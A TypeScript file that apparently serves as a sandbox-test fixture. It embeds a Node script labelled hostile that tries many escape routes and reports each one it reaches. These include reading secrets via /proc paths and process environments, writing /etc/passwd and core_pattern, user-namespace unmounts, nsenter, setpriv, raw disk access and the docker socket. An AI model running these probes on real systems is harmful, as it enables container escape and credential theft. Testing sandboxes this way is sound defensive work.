/** What a hostile repository would run: tries everything and says what it reached, one line each; then DONE. */
export const HOSTILE = `
import fs from "node:fs"; import net from "node:net"; import path from "node:path";
import { spawnSync, execFileSync } from "node:child_process";
const targets = JSON.parse(fs.readFileSync("targets.json", "utf8"));
const say = (what) => console.log("REACHED " + what);
const quietly = (work) => { try { return work(); } catch { return null; } };
const holds = (text, what) => { if (typeof text === "string" && text.includes(what)) return true; return false; };

for (const file of targets.files) {
  const roads = [file, path.relative(process.cwd(), file), "/proc/1/root" + file, "/proc/self/root" + file, "/proc/self/cwd/.." + file];
  for (const pid of targets.pids) roads.push("/proc/" + pid + "/root" + file);
  for (const road of roads) if (holds(quietly(() => fs.readFileSync(road, "latin1")), targets.secret)) say("file " + road);
  const link = path.join(process.env.TMPDIR, "link" + Math.random());
  quietly(() => fs.linkSync(file, link)); if (quietly(() => fs.statSync(link))) say("hard link to " + file);
  quietly(() => fs.symlinkSync(file, link + "s")); if (holds(quietly(() => fs.readFileSync(link + "s", "latin1")), targets.secret)) say("symlink to " + file);
}
for (const name of fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) {
  if (holds(quietly(() => fs.readFileSync("/proc/" + name + "/environ", "latin1")), targets.environment)) say("environment of " + name);
  if (Number(name) !== process.pid && Number(name) !== process.ppid && quietly(() => fs.openSync("/proc/" + name + "/mem", "r+"))) {
    const own = quietly(() => fs.readFileSync("/proc/" + name + "/environ", "latin1"));
    if (holds(own, targets.environment)) say("memory of " + name);
  }
}
for (const socket of targets.sockets) {
  await new Promise((resolve) => {
    const client = net.connect(socket, () => { say("socket " + socket); client.destroy(); resolve(); });
    client.on("error", resolve);
  });
}
for (const file of targets.outside) quietly(() => fs.writeFileSync(file, "planted")); // judged outside
for (const file of ["/usr/bin/env", "/etc/passwd", "/proc/sys/kernel/core_pattern", ...targets.files]) {
  if (quietly(() => fs.openSync(file, "r+"))) say("write " + file);
}
const wordsOf = (pid) => (quietly(() => fs.readFileSync("/proc/" + pid + "/cmdline", "latin1")) ?? "").split("\\0").join(" ");
for (const pid of targets.pids) {
  if (/sleep 300|hostile.fixture/.test(wordsOf(pid)) && quietly(() => process.kill(pid, 0))) say("signal to " + pid);
}
const shell = (words) => spawnSync("sh", ["-c", words, "sh", ...targets.files], { encoding: "latin1", timeout: 5000 }).stdout ?? "";
if (holds(shell('unshare -U -r -m sh -c \\'for m in /app /tmp /etc /proc /usr; do umount -l $m; done; cat "$@"; mount -t proc proc /proc; cat /proc/*/environ\\' sh "$@"'), targets.secret)) say("file by a user namespace");
if (shell("unshare -U -r -m sh -c 'mount -o remount,rw,bind /usr && [ -w /usr/bin/env ] && echo WRITTEN'").includes("WRITTEN")) say("write /usr by a user namespace");
if (shell("setpriv --reuid=0 --regid=0 --clear-groups id -u").trim() === "0" && process.getuid() !== 0) say("root by setpriv");
if (holds(shell('nsenter -t 1 -a cat "$@"'), targets.secret)) say("file by nsenter");
if (shell("mknod /tmp/disk b 254 0 && head -c 1 /tmp/disk | wc -c").trim() === "1") say("disk");
if (fs.existsSync("/run/docker.sock")) say("docker");
if (quietly(() => fs.openSync("/dev/tty", "r+"))) say("terminal");
for (const fd of fs.readdirSync("/proc/self/fd")) {
  const to = quietly(() => fs.readlinkSync("/proc/self/fd/" + fd)) ?? "";
  if (to.startsWith("/") && !/^\\/(dev|proc|anon|memfd)/.test(to)) say("open file " + to);
}
const status = fs.readFileSync("/proc/self/status", "latin1");
for (const set of ["CapEff", "CapPrm", "CapInh", "CapAmb"]) if (!new RegExp(set + ":\\\\s+0+\\\\n").test(status)) say("rights " + set);
if (!/NoNewPrivs:\\s+1/.test(status)) say("new privileges");
for (const pid of targets.pids) {
  if (/sleep 300/.test(wordsOf(pid))) quietly(() => process.kill(pid, "SIGKILL"));
}
console.log("DONE");
setInterval(() => {}, 1000).unref();
if (process.env.PORT) setInterval(() => {}, 1000);
`;
